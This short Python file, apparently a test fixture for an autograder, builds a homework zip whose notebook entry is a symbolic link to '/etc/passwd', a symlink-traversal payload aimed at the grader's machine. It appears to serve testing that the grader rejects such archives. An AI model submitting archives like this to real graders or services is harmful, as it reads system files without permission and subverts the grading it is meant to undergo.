"""A zip whose notebook is a symbolic link to a file of the grader's."""

import stat
import zipfile


def build(folder, book):
    link = zipfile.ZipInfo("vae.ipynb")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(folder / "homework.zip", "w") as archive:
        archive.writestr(link, "/etc/passwd")
